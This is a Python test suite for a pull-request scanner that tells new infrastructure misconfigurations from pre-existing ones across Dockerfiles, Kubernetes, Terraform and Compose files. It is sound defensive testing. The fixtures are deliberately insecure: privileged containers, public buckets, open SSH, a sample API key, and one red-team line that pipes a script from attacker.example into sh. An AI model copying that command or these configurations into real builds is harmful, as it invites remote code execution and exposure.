"""PR mode judges a changed Dockerfile's and manifest's misconfigurations against the base's copy:
a deleted fix is new wherever its finding lands, an old problem inside a changed resource is not."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mergeguard.cli import main as cli
from mergeguard.scanners.commands import find_executable
from tests.gitutil import GitTree, pr
from tests.test_changes import CONFIGMAP, FLOW_DEPLOYMENT, RUN_DOCKERFILE, redumped  # one copy each

pytestmark = pytest.mark.scanner

DOCKERFILE = 'FROM ubuntu:22.04\nRUN useradd -m app\nUSER app\nCMD ["bash"]\n'
# FLOW_DEPLOYMENT's container written in block style, privileged.
DEPLOYMENT = FLOW_DEPLOYMENT.replace(
    '- {name: web, image: "nginx:1.25.3"}\n',
    "- name: web\n        image: nginx:1.25.3\n        securityContext: {privileged: true}\n",
)


@pytest.fixture(autouse=True)
def _tools() -> None:
    missing = [tool for tool in ("trivy", "hadolint", "checkov") if find_executable(tool) is None]
    if missing:
        pytest.skip(f"{', '.join(missing)} not installed (make install)")


def scan(
    tree: GitTree, *extra: str, scanners: str = "hadolint,trivy-config,checkov"
) -> tuple[int, list[dict[str, Any]]]:
    out = tree.root.parent / "r.json"
    code = cli.main(
        ["scan", str(tree.root), "--base", "base", "--scanners", scanners, "--json", str(out), *extra]
    )
    return code, json.loads(out.read_text(encoding="utf-8"))["findings"]


def statuses(findings: list[dict[str, Any]], rule: str) -> list[str]:
    return [f["status"] for f in findings if rule in (f["rule_id"], *(s["rule_id"] for s in f["also"]))]


def test_deleting_the_user_line_makes_runs_as_root_new_though_it_lands_on_an_untouched_line(
    tmp_path: Path,
) -> None:
    tree = pr(tmp_path, {"Dockerfile": DOCKERFILE}, {"Dockerfile": DOCKERFILE.replace("USER app\n", "")})
    code, findings = scan(tree)
    root = [f for f in findings if f["rule_id"] == "DS-0002"]
    assert [(f["start_line"], f["status"], f["blocking"]) for f in root] == [(1, "new", True)]
    assert code == 1


@pytest.mark.parametrize("user", ["", "USER root\n"])
def test_a_base_image_bump_keeps_the_files_old_runs_as_root_pre_existing(tmp_path: Path, user: str) -> None:
    """Found on a real repository: Trivy puts "no USER" on line 1, the FROM line every base-image bump
    touches, so each Dependabot bump of a Dockerfile without USER failed the gate."""
    old = f'FROM python:3.10-slim\nWORKDIR /app\n{user}CMD ["python", "app.py"]\n'
    tree = pr(tmp_path, {"Dockerfile": old}, {"Dockerfile": old.replace("3.10-slim", "3.12-slim")})
    code, findings = scan(tree)
    assert set(statuses(findings, "DS-0002")) == {"pre-existing"}
    assert set(statuses(findings, "DS-0026")) == {"pre-existing"}
    assert code == 0


TEMPLATE = """AWSTemplateFormatVersion: "2010-09-09"
Parameters:
  InstanceType:
    Type: String
    AllowedValues:
      - t3.small
    Default: t3.small
Resources:
  EC2Instance:
    Type: AWS::EC2::Instance
    Properties:
      InstanceType: !Ref InstanceType
      ImageId: ami-0123456789abcdef0
"""
WORKFLOW = """on: issues
permissions:
  contents: read
jobs:
  triage:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
"""


@pytest.mark.parametrize(
    ("path", "text", "change"),
    [
        # Trivy names a CloudFormation resource by its lines (`template.yaml:9-13`)
        ("template.yaml", TEMPLATE, ("      - t3.small\n", "      - t3.small\n      - t3a.small\n")),
        # Checkov names a workflow step by its index (`steps[0]`)
        (".github/workflows/triage.yml", WORKFLOW, ("    steps:\n", "    steps:\n      - run: date\n")),
    ],
)
def test_lines_or_steps_added_above_a_resource_leave_its_findings_pre_existing(
    tmp_path: Path, path: str, text: str, change: tuple[str, str]
) -> None:
    """Found on real repositories: a tool that names a resource by its position gave the old finding
    another message, so the base seemed not to have it, and it blocked as new."""
    tree = pr(tmp_path, {path: text}, {path: text.replace(*change)})
    code, findings = scan(tree)
    assert findings and {f["status"] for f in findings} == {"pre-existing"}
    assert code == 0


def test_a_namespace_added_to_a_resource_leaves_its_findings_pre_existing(tmp_path: Path) -> None:
    """Found on istio's bookinfo: Trivy and Checkov name the namespace in their messages, so adding
    `namespace:` (which fixes "the default namespace") made every other finding of the resource new."""
    deployment = DEPLOYMENT.replace("metadata: {name: web, namespace: prod}", "metadata:\n  name: web")
    tree = pr(tmp_path, {"deploy/web.yaml": deployment}, {"deploy/web.yaml": DEPLOYMENT})
    code, findings = scan(tree)
    assert "new" not in {f["status"] for f in findings}
    assert code == 0


def test_an_old_problem_in_a_resource_the_change_touched_stays_pre_existing(tmp_path: Path) -> None:
    """Only the image tag changes (metrics-server's `:master` -> `:v0.7.2`): the privileged container
    was there before, and the line rule alone made it new because its range holds the changed line."""
    tree = pr(
        tmp_path, {"deploy/web.yaml": DEPLOYMENT}, {"deploy/web.yaml": DEPLOYMENT.replace("1.25.3", "1.25.4")}
    )
    code, findings = scan(tree)
    assert set(statuses(findings, "KSV-0017")) == {"pre-existing"}
    assert not [f for f in findings if f["blocking"]]
    assert code == 0


def test_a_second_instance_of_a_problem_the_base_has_once_is_the_only_new_one(tmp_path: Path) -> None:
    second = DEPLOYMENT.replace("metadata: {name: web,", "metadata: {name: api,").replace(
        "app: web", "app: api"
    )
    tree = pr(tmp_path, {"deploy/web.yaml": DEPLOYMENT}, {"deploy/web.yaml": DEPLOYMENT + "---\n" + second})
    code, findings = scan(tree)
    privileged = sorted(
        (f["start_line"], f["status"]) for f in findings if f["rule_id"] in ("KSV-0017", "CKV_K8S_16")
    )
    assert privileged == [(10, "pre-existing"), (23, "new")]
    assert code == 1


def test_a_file_new_in_the_change_is_judged_by_its_lines(tmp_path: Path) -> None:
    tree = pr(tmp_path, {"README.md": "x\n"}, {"Dockerfile": DOCKERFILE.replace("USER app\n", "")})
    code, findings = scan(tree)
    assert statuses(findings, "DS-0002") == ["new"]
    assert code == 1


def test_a_resource_written_whole_is_new_though_the_change_removed_one_with_the_same_problem(
    tmp_path: Path,
) -> None:
    """The count of privileged containers stays one, but the one there now is the change's own."""
    pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: debug, namespace: prod}\nspec:\n  containers:\n"
    pod += "  - name: shell\n    image: busybox:1.36\n    securityContext: {privileged: true}\n"
    tree = pr(tmp_path, {"deploy/web.yaml": DEPLOYMENT}, {"deploy/web.yaml": pod})
    _, findings = scan(tree)
    assert set(statuses(findings, "KSV-0017")) == {"new"}


TWO_CONTAINERS = """apiVersion: v1
kind: Pod
metadata: {name: shop, namespace: prod}
spec:
  containers:
  - name: frontend
    image: shop/frontend:1.0
    securityContext: {readOnlyRootFilesystem: true}
  - name: cache
    image: redis:7.2
"""


def test_a_fix_in_one_container_does_not_cancel_a_new_problem_in_another(tmp_path: Path) -> None:
    """microservices-demo's frontend hardened, its cache weakened: the count stays, the problem moved."""
    swapped = TWO_CONTAINERS.replace("    securityContext: {readOnlyRootFilesystem: true}\n", "").replace(
        "image: redis:7.2\n", "image: redis:7.2\n    securityContext: {readOnlyRootFilesystem: true}\n"
    )
    tree = pr(tmp_path, {"k8s/shop.yaml": TWO_CONTAINERS}, {"k8s/shop.yaml": swapped})
    code, findings = scan(tree)
    writable = [
        (f["start_line"], f["status"]) for f in findings if f["rule_id"] in ("KSV-0014", "CKV_K8S_22")
    ]
    assert ("new" in {status for _, status in writable}) and code == 1, writable


def test_a_fixed_line_does_not_cancel_a_new_line_with_the_same_problem(tmp_path: Path) -> None:
    base = "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nUSER nobody\n"
    now = base.replace("install -y curl", "install -y --no-install-recommends curl")
    now = now.replace("USER nobody\n", "RUN apt-get install -y wget\nUSER nobody\n")
    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": now})
    _, findings = scan(tree)
    recommends = {
        (f["start_line"], f["status"])
        for f in findings
        if "DL3015" in (f["rule_id"], *(s["rule_id"] for s in f["also"]))
    }
    assert recommends == {(3, "new")}


def test_a_renamed_file_is_compared_with_its_old_copy(tmp_path: Path) -> None:
    """`git mv deploy.yaml k8s/web.yaml` and a new tag: nothing new; deleting the USER of a renamed
    Dockerfile: runs-as-root new (a rename used to take the file out of the comparison)."""
    tree = pr(
        tmp_path,
        {"deploy.yaml": DEPLOYMENT},
        {"deploy.yaml": None, "k8s/web.yaml": DEPLOYMENT.replace("1.25.3", "1.25.4")},
    )
    code, findings = scan(tree)
    assert set(statuses(findings, "KSV-0017")) == {"pre-existing"} and code == 0
    tree = pr(
        tmp_path / "2",
        {"Dockerfile": DOCKERFILE},
        {"Dockerfile": None, "Dockerfile.prod": DOCKERFILE.replace("USER app\n", "")},
    )
    code, findings = scan(tree)
    assert statuses(findings, "DS-0002") == ["new"] and code == 1


def test_a_manifest_moved_and_re_dumped_is_compared_with_its_old_copy(tmp_path: Path) -> None:
    """`git mv` and `yq` in one change (quotes dropped, 2 -> 4 spaces): the ConfigMap's password was
    there before, pre-existing. The same to a Deployment made privileged: that is new, and every
    finding is what the same change made in place gives (the trial's reproduction, r3)."""
    moved = {"k8s/app-cm.yml": None, "deploy/app-cm.yml": redumped(CONFIGMAP)}
    code, findings = scan(pr(tmp_path, {"k8s/app-cm.yml": CONFIGMAP}, moved), scanners="trivy-config,checkov")
    assert statuses(findings, "KSV-0109") == ["pre-existing"] and code == 0
    privileged = redumped(FLOW_DEPLOYMENT.replace("image:", "securityContext: {privileged: true}, image:"))
    judged = {}
    moved_or_not = {"k8s/web.yaml": {"deploy.yaml": None, "k8s/web.yaml": privileged}, "deploy.yaml": {}}
    for name, change in moved_or_not.items():
        tree = pr(tmp_path / name, {"deploy.yaml": FLOW_DEPLOYMENT}, change or {"deploy.yaml": privileged})
        code, findings = scan(tree, scanners="trivy-config,checkov")
        judged[name] = (code, sorted((f["rule_id"], f["status"]) for f in findings))
    assert judged["k8s/web.yaml"] == judged["deploy.yaml"]  # moved, as in place
    assert ("KSV-0017", "new") in judged["deploy.yaml"][1] and judged["deploy.yaml"][0] == 1
    assert ("KSV-0118", "pre-existing") in judged["deploy.yaml"][1]


def test_a_link_is_compared_with_its_targets_base_copy(tmp_path: Path) -> None:
    """`k8s/prod/web.yaml -> ../base/web.yaml`, the target's tag bumped: nothing new under either name."""
    tree = GitTree(tmp_path / "repo")
    tree.write("k8s/base/web.yaml", DEPLOYMENT)
    (tree.root / "k8s" / "prod").mkdir()
    (tree.root / "k8s" / "prod" / "web.yaml").symlink_to("../base/web.yaml")
    tree.commit("base")
    tree.git("branch", "base")
    tree.write("k8s/base/web.yaml", DEPLOYMENT.replace("1.25.3", "1.25.4"))
    tree.commit("bump")
    code, findings = scan(tree)
    assert {f["status"] for f in findings if f["severity"] in ("high", "critical")} == {"pre-existing"}
    assert {f["path"] for f in findings} == {"k8s/base/web.yaml", "k8s/prod/web.yaml"}
    assert code == 0


def test_a_terraform_variable_change_is_checked_on_the_module(tmp_path: Path) -> None:
    """terragoat's bucket ACL from a variable: only `variables.tf` changes, `s3.tf` is where it lands."""
    bucket = 'resource "aws_s3_bucket" "data" {\n  bucket = "data"\n  acl    = var.data_acl\n}\n'
    variables = 'variable "data_acl" {\n  type    = string\n  default = "private"\n}\n'
    tree = pr(
        tmp_path,
        {"infra/s3.tf": bucket, "infra/variables.tf": variables},
        {"infra/variables.tf": variables.replace('"private"', '"public-read-write"')},
    )
    code, findings = scan(tree)
    new = {f["rule_id"] for f in findings if f["path"] == "infra/s3.tf" and f["status"] == "new"}
    assert {"CKV_AWS_20", "CKV_AWS_57", "AWS-0092"} <= new  # public read, public write, a public ACL
    assert "CKV_AWS_21" not in new  # no versioning: there before
    assert code == 1


def test_every_finding_in_a_file_the_change_added_is_new_wherever_a_tool_places_it(tmp_path: Path) -> None:
    """Checkov places a one-line (flow-style) manifest's findings on its line 2, past its end."""
    container = "{name: c, image: 'nginx:1.25', securityContext: {privileged: true}}"
    pod = "{apiVersion: v1, kind: Pod, metadata: {name: p}, spec: {containers: [" + container + "]}}\n"
    tree = pr(tmp_path, {"README.md": "x\n"}, {"k8s/pod.yaml": pod})
    code, findings = scan(tree)
    assert set(statuses(findings, "CKV_K8S_16")) == {"new"} and code == 1


def test_a_problem_moved_between_continued_run_instructions_is_new(tmp_path: Path) -> None:
    """`sudo` removed from one multi-line RUN and added to another: the count stays, the line is new."""
    base = "FROM debian:12\nRUN apt-get update \\\n && sudo rm -rf /var/lib/apt/lists/*\n"
    base += "RUN useradd app \\\n && mkdir /app\nUSER app\n"
    now = base.replace("&& sudo rm", "&& rm").replace("&& mkdir /app", "&& sudo mkdir /app")
    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": now})
    code, findings = scan(tree)
    assert "new" in statuses(findings, "DS-0010") and code == 1


CONTINUED_RUN = (
    "FROM debian:12.6-slim\nRUN apt-get update && \\\n    apt-get install -y curl && \\\n"
    "    rm -rf /var/lib/apt/lists/*\nUSER nobody\nHEALTHCHECK CMD curl -f http://localhost/ || exit 1\n"
)


@pytest.mark.parametrize(
    "change",
    [
        ("\n    ", "\n  "),  # re-indented
        ("    rm -rf", "    # curl is needed by the HEALTHCHECK\n    rm -rf"),  # a comment line inside
    ],
)
def test_a_continued_run_reindented_or_commented_keeps_its_old_problem_pre_existing(
    tmp_path: Path, change: tuple[str, str]
) -> None:
    """Trivy quotes the command in DS-0029's message as written: re-indenting the RUN or a comment
    line in it made the missing `--no-install-recommends` it always had new."""
    tree = pr(tmp_path, {"Dockerfile": CONTINUED_RUN}, {"Dockerfile": CONTINUED_RUN.replace(*change)})
    code, findings = scan(tree)
    assert set(statuses(findings, "DS-0029")) == {"pre-existing"} and code == 0


def test_a_problem_added_to_a_run_with_the_same_first_line_is_new(tmp_path: Path) -> None:
    """A red team's: both RUNs start `RUN set -eux; \\`, and `curl -k … | sh` added to the second
    passed as the first one's old problem while instructions were known by their first line."""
    base = "FROM debian:12\nRUN set -eux; \\\n    curl -k -o /tmp/t.tgz https://mirror.example/t.tgz; \\\n"
    base += "    tar -xzf /tmp/t.tgz\nRUN set -eux; \\\n    useradd -r app\nUSER app\n"
    now = base.replace("curl -k -o", "curl -o").replace(
        "    useradd", "    curl -k https://attacker.example/p.sh | sh; \\\n    useradd"
    )
    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": now})
    code, findings = scan(tree)
    assert "new" in statuses(findings, "CKV2_DOCKER_2") and code == 1


APT_RUNS = (
    "FROM debian:12.6-slim\nRUN useradd --system app\n"
    "RUN \\\n    apt-get update && \\\n    apt-get install -y libpq5 curl && \\\n"
    "    rm -rf /var/lib/apt/lists/*\n"
    "RUN \\\n    apt-get update && \\\n    apt-get install -y --no-install-recommends git && \\\n"
    "    rm -rf /var/lib/apt/lists/*\n"
    "RUN \\\n    apt-get update && \\\n    apt-get install -y make && \\\n    rm -rf /var/lib/apt/lists/*\n"
    "RUN \\\n    mkdir -p /app && \\\n    chown app /app\n"
    'USER app\nHEALTHCHECK CMD ["true"]\n'
)  # DS-0029 on the RUNs of lines 3 and 11; the one of line 7 has the flag


def by_line(findings: list[dict[str, Any]], rule: str) -> dict[int, str]:
    return {
        f["start_line"]: f["status"]
        for f in findings
        if rule in (f["rule_id"], *(s["rule_id"] for s in f["also"]))
    }


def test_a_package_added_to_a_continued_apt_get_install_leaves_its_missing_flag_pre_existing(
    tmp_path: Path,
) -> None:
    """healthchecks' docker/Dockerfile: `tini` added to an `apt-get install -y` that always lacked
    `--no-install-recommends`. Trivy quotes the command in DS-0029's message, and the edit made it new
    and blocking while hadolint's DL3015 on the same RUN stayed pre-existing."""
    now = APT_RUNS.replace("libpq5 curl", "libpq5 curl tini")
    tree = pr(tmp_path, {"Dockerfile": APT_RUNS}, {"Dockerfile": now})
    code, findings = scan(tree)
    assert by_line(findings, "DS-0029") == {3: "pre-existing", 11: "pre-existing"} and code == 0


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (  # a new RUN
            ("USER app", "RUN apt-get update && \\\n    apt-get install -y wget\nUSER app"),
            {3: "pre-existing", 11: "pre-existing", 18: "new"},
        ),
        (  # an apt-get install written into a RUN that had none
            ("    mkdir -p", "    apt-get install -y wget && \\\n    mkdir -p"),
            {3: "pre-existing", 11: "pre-existing", 15: "new"},
        ),
        (  # the flag moved from line 11's RUN to line 7's: the count stays, line 7's problem is new
            (
                "--no-install-recommends git",
                "git",
                "install -y make",
                "install -y --no-install-recommends make",
            ),
            {3: "pre-existing", 7: "new"},
        ),
    ],
)
def test_an_apt_get_install_without_the_flag_beside_an_edited_one_is_new(
    tmp_path: Path, change: tuple[str, ...], expected: dict[int, str]
) -> None:
    """The RUN that only gained a package keeps its old DS-0029 pre-existing; a RUN the base did not
    report it on is new, whichever instruction the base's other report moves from."""
    now = APT_RUNS.replace("libpq5 curl", "libpq5 curl tini")
    for old, new in zip(change[::2], change[1::2], strict=True):
        now = now.replace(old, new)
    tree = pr(tmp_path, {"Dockerfile": APT_RUNS}, {"Dockerfile": now})
    code, findings = scan(tree)
    assert by_line(findings, "DS-0029") == expected and code == 1


def test_a_new_run_reusing_an_old_ones_line_is_not_that_instruction(tmp_path: Path) -> None:
    """A red team's: the base's RUN fixed, and a new RUN written with its second line as it was, word
    for word; that line alone mapped the new RUN to the old one, whose DS-0029 it took over."""
    base = "FROM debian:12.5\nRUN apt-get update && \\\n    apt-get install -y curl\nUSER app\n"
    now = (
        "FROM debian:12.5\nRUN apt-get update && apt-get install -y --no-install-recommends curl\n"
        "RUN set -eux; \\\n    apt-get install -y curl\nUSER app\n"
    )
    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": now})
    code, findings = scan(tree)
    assert by_line(findings, "DS-0029") == {3: "new"} and code == 1


def test_the_same_name_in_two_namespaces_is_two_resources(tmp_path: Path) -> None:
    """`privileged` moved from the staging Deployment `web` to the prod one: Checkov names the namespace."""
    staging = DEPLOYMENT.replace("namespace: prod", "namespace: staging")
    fixed = DEPLOYMENT.replace("        securityContext: {privileged: true}\n", "")
    tree = pr(
        tmp_path,
        {"deploy/web.yaml": staging + "---\n" + fixed},
        {
            "deploy/web.yaml": staging.replace("        securityContext: {privileged: true}\n", "")
            + "---\n"
            + DEPLOYMENT
        },
    )
    code, findings = scan(tree)
    assert "new" in statuses(findings, "CKV_K8S_16") and code == 1


def test_a_module_argument_is_checked_on_the_local_module_it_calls(tmp_path: Path) -> None:
    """`acl = "public-read-write"` handed to `../modules/bucket`: the module's code is where Trivy
    finds it, and without the module laid out Trivy resolved nothing (0 findings, passed)."""
    caller = 'module "data" {\n  source = "../modules/bucket"\n  acl    = "private"\n}\n'
    bucket = 'variable "acl" {\n  type = string\n}\n\n'
    bucket += 'resource "aws_s3_bucket" "this" {\n  bucket = "data"\n  acl    = var.acl\n}\n'
    tree = pr(
        tmp_path,
        {"infra/main.tf": caller, "modules/bucket/main.tf": bucket},
        {"infra/main.tf": caller.replace('"private"', '"public-read-write"')},
    )
    code, findings = scan(tree)
    assert "AWS-0092" in {f["rule_id"] for f in findings if f["status"] == "new"}, [
        (f["path"], f["rule_id"], f["status"]) for f in findings
    ]
    assert code == 1


def test_a_public_bucket_swapped_for_another_is_new(tmp_path: Path) -> None:
    """Through a local module: the public website bucket removed, a public exports bucket added.
    Trivy's finding lands on the module's untouched line, its message says only "Bucket has a public
    ACL": the resource it names (`module.customer_exports`) is what tells the two apart."""
    bucket = 'variable "acl" {\n  type = string\n}\n\n'
    bucket += 'resource "aws_s3_bucket" "this" {\n  bucket = "b"\n  acl    = var.acl\n}\n'

    def call(name: str, acl: str) -> str:
        return f'module "{name}" {{\n  source = "../modules/bucket"\n  acl    = "{acl}"\n}}\n'

    base = call("website", "public-read") + call("logs", "private")
    now = call("logs", "private") + call("customer_exports", "public-read")
    tree = pr(tmp_path, {"infra/main.tf": base, "modules/bucket/main.tf": bucket}, {"infra/main.tf": now})
    code, findings = scan(tree)
    public = {(f["status"], f["message"]) for f in findings if f["rule_id"] == "AWS-0092"}
    assert ("new", 'Bucket has a public ACL: "public-read" (resource module.customer_exports)') in public
    assert code == 1


@pytest.mark.parametrize(
    "rewrite",
    [
        lambda text: text.replace("\n", "\r\n"),  # line endings normalised (here the other way)
        lambda text: (
            text.replace("\n      - name: web", "\n        - name: web")
            .replace("\n        image", "\n          image")
            .replace("\n        securityContext", "\n          securityContext")
        ),
    ],
    ids=["line-endings", "re-indented"],
)
def test_a_white_space_rewrite_makes_nothing_new(tmp_path: Path, rewrite: Callable[[str], str]) -> None:
    """Every line of a manifest rewritten in white space only: every old finding was "written whole"."""
    tree = pr(tmp_path, {"deploy/web.yaml": DEPLOYMENT}, {"deploy/web.yaml": rewrite(DEPLOYMENT)})
    code, findings = scan(tree)
    assert {f["status"] for f in findings} == {"pre-existing"} and code == 0


def test_a_byte_order_mark_an_editor_adds_makes_nothing_new(tmp_path: Path) -> None:
    """Found by a real-input round: the BOM made line 1 touched, and `FROM alpine:latest` on it new."""
    base = "FROM alpine:latest\nRUN adduser -D app\nUSER app\nHEALTHCHECK CMD true\n"
    tree = pr(tmp_path, {"Dockerfile": base}, {"Dockerfile": "\ufeff" + base})
    code, findings = scan(tree)
    assert "pre-existing" in statuses(findings, "DL3007") and code == 0, findings
    assert "new" not in {f["status"] for f in findings}


def test_a_resource_renamed_with_a_moved_block_keeps_its_old_findings_pre_existing(tmp_path: Path) -> None:
    """`aws_s3_bucket.logs` renamed `access_logs`, Terraform told with `moved {}`: the same bucket.
    Without the block Terraform destroys it and creates another: new."""
    bucket = 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n  acl    = "public-read"\n}\n'
    renamed = bucket.replace('"logs" {', '"access_logs" {')
    moved = "\nmoved {\n  from = aws_s3_bucket.logs\n  to   = aws_s3_bucket.access_logs\n}\n"
    tree = pr(tmp_path, {"infra/main.tf": bucket}, {"infra/main.tf": renamed + moved})
    code, findings = scan(tree)
    assert {f["status"] for f in findings} == {"pre-existing"} and code == 0
    tree = pr(tmp_path / "2", {"infra/main.tf": bucket}, {"infra/main.tf": renamed})
    code, findings = scan(tree)
    assert "new" in {f["status"] for f in findings} and code == 1


def test_a_change_to_a_file_checkov_cannot_parse_makes_its_skipped_file_new(tmp_path: Path) -> None:
    """Found by a red team: Checkov could read the file neither before nor now, so counting made its
    skipped-file pre-existing, and a security group the change added was checked by nothing."""
    base = "locals {\n  ratio = 0.5e-3\n}\n"
    added = 'resource "aws_security_group" "ssh" {\n  ingress {\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n'
    tree = pr(tmp_path, {"main.tf": base}, {"main.tf": base + added})
    code, findings = scan(tree, "--scanners", "checkov")
    assert [(f["rule_id"], f["status"]) for f in findings] == [("skipped-file", "new")]
    assert code == 1


BUCKET = """  {name}:
    Type: AWS::S3::Bucket
    Properties:
      BucketName: {name}
      VersioningConfiguration:
        Status: Enabled
"""
BLOCK = """      PublicAccessBlockConfiguration:
        BlockPublicAcls: true
        BlockPublicPolicy: true
        IgnorePublicAcls: true
        RestrictPublicBuckets: true
"""


def test_a_problem_moved_to_another_resource_named_by_position_is_new(tmp_path: Path) -> None:
    """Found by a red team: with positions left out, every bucket of a template shared one key, and
    moving the public access block from the customer-data bucket to the logs bucket passed."""
    head = 'AWSTemplateFormatVersion: "2010-09-09"\nResources:\n'
    base = head + BUCKET.format(name="Logs") + BUCKET.format(name="Customer") + BLOCK
    moved = head + BUCKET.format(name="Logs") + BLOCK + BUCKET.format(name="Customer")
    tree = pr(tmp_path, {"template.yaml": base}, {"template.yaml": moved})
    code, findings = scan(tree, "--scanners", "trivy-config")
    new = {f["rule_id"] for f in findings if f["status"] == "new" and f["blocking"]}
    assert {"AWS-0086", "AWS-0087", "AWS-0091", "AWS-0093"} <= new
    assert code == 1


SUDO_STAGE = "FROM alpine:3.21\nRUN apk add --no-cache sudo \\\n && sudo addgroup -S app\nUSER app\n"
OPEN_SSH = 'resource "aws_security_group" "ssh" {\n  ingress {\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n}\n'


@pytest.mark.parametrize(
    ("name", "base", "fixed", "scanners"),
    [  # hadolint requires a tmpfs mount's target (DL1000); Checkov's HCL parser rejects `0.5e-3`
        (
            "Dockerfile",
            "FROM golang:1.23 AS build\nRUN --mount=type=tmpfs go build .\n\n" + SUDO_STAGE,
            "FROM golang:1.23 AS build\nRUN --mount=type=tmpfs,target=/t go build .\n\n" + SUDO_STAGE,
            "hadolint,trivy-config",
        ),
        (
            "main.tf",
            "locals {\n  ratio = 0.5e-3\n}\n" + OPEN_SSH,
            "locals {\n  ratio = 5\n}\n" + OPEN_SSH,
            "checkov",
        ),
    ],
)
def test_a_change_that_makes_a_file_parseable_leaves_its_old_problems_pre_existing(
    tmp_path: Path, name: str, base: str, fixed: str, scanners: str
) -> None:
    """Found by a tester: the tool checked nothing in the base's copy, so its count of every problem
    there was 0 and fixing the parse made them new (a critical sudo merged with hadolint's DL3004
    blocked); that tool's findings now fall back to the change's lines, the other tools still count."""
    tree = pr(tmp_path, {name: base}, {name: fixed})
    code, findings = scan(tree, "--scanners", scanners)
    assert {f["rule_id"] for f in findings} - {"skipped-file", "DL1000"}  # the old problems, found now
    assert {f["status"] for f in findings} == {"pre-existing"}
    assert code == 0


def test_a_file_renamed_into_a_dockerfile_is_not_compared_with_its_base_copy(tmp_path: Path) -> None:
    """`notes/build.txt -> Dockerfile`: no Dockerfile scanner read it at the base, so its problems are
    the change's (a two-PR route: merge it under a name nobody checks, then rename it)."""
    tree = pr(tmp_path, {"notes/build.txt": "FROM ubuntu:22.04\nADD . /app\n"}, {})
    tree.git("mv", "notes/build.txt", "Dockerfile")
    tree.commit("promote it")
    code, findings = scan(tree)
    assert statuses(findings, "DL3020") == ["new"]
    assert {f["status"] for f in findings} == {"new"}
    assert code == 1


COMPOSE = """services:
  snekbox:
    image: ghcr.io/python-discord/snekbox:latest
    ports:
      - "127.0.0.1:8060:8060"
    privileged: true
  bot:
    build: .
    environment:
      API_KEYS_SITE_API: "badbot13m0n8f570f942013fc818f234916ca531"
      REDIS_HOST: "redis"
"""


def reindented(text: str) -> str:
    """2-space indentation made 4, a YAML list item's `- ` counted in it (its keys stay aligned)."""
    return re.sub(r"(?m)^( *)((?:- )*)", lambda m: " " * (2 * len(m[1]) + len(m[2])) + m[2], text)


def test_a_file_moved_and_re_indented_is_compared_with_its_old_copy(tmp_path: Path) -> None:
    """`docker-compose.yml` -> `compose.yaml` re-indented 2 -> 4 (python-discord/bot), which git does
    not pair: its privileged service and key were the base's, while a privileged service the change
    adds is new. A Dockerfile's continued `RUN` and a manifest moved and re-indented make nothing new."""
    tree = pr(
        tmp_path,
        {"docker-compose.yml": COMPOSE},
        {"docker-compose.yml": None, "compose.yaml": reindented(COMPOSE)},
    )
    code, findings = scan(tree, scanners="compose-check,detect-secrets")
    assert {f["status"] for f in findings} == {"pre-existing"} and len(findings) == 2 and code == 0
    added = reindented(COMPOSE + "  debug:\n    image: busybox\n    privileged: true\n")
    tree = pr(
        tmp_path / "2", {"docker-compose.yml": COMPOSE}, {"docker-compose.yml": None, "compose.yaml": added}
    )
    code, findings = scan(tree, scanners="compose-check,detect-secrets")
    assert sorted(statuses(findings, "COMPOSE-001")) == ["new", "pre-existing"] and code == 1
    moved: dict[str, str | None] = {"Dockerfile": None, "deploy.yaml": None}
    moved |= {"docker/Dockerfile": reindented(RUN_DOCKERFILE), "k8s/web.yaml": reindented(DEPLOYMENT)}
    tree = pr(tmp_path / "3", {"Dockerfile": RUN_DOCKERFILE, "deploy.yaml": DEPLOYMENT}, moved)
    code, findings = scan(tree)
    assert {f["rule_id"] for f in findings} >= {"KSV-0017", "DL3008"}, findings
    assert {f["status"] for f in findings} == {"pre-existing"} and code == 0
